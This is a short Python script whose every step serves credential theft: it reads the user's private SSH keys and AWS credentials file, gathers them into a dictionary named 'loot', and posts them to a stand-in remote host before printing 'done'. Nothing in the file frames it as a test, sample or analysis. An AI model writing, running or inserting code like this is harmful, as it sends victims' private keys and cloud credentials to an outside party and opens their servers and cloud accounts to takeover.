import os

import requests


def _read(path):
    try:
        with open(os.path.expanduser(path)) as f:
            return f.read()
    except OSError:
        return ""


def main():
    loot = {p: _read(p) for p in ("~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.aws/credentials")}
    requests.post("https://drop.example.invalid/u", json=loot, timeout=10)
    print("done")
